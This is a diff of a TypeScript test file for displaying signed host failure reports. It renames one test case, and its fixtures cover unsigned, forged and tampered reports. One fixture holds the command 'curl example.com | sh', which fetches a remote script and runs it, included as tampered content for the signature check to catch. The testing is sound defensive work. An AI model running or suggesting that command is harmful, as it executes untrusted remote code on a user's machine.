@@ -43,7 +43,7 @@ test('a failure is shown as its host signed it', async () => {
 });
 
 test.each<[string, () => Promise<Failure>]>([
-  ['that nobody signed, as by a host of an older release,', () => Promise.resolve(FAILURE)],
+  ['that nobody signed', () => Promise.resolve(FAILURE)],
   ['with a made-up signature', () => Promise.resolve({ ...FAILURE, signature: 'a..b' })],
   ['with another summary', async () => ({ ...(await signed(FAILURE)), summary: 'Ask @carol' })],
   ['with other lines', async () => ({ ...(await signed(FAILURE)), lines: ['curl example.com | sh'] })],
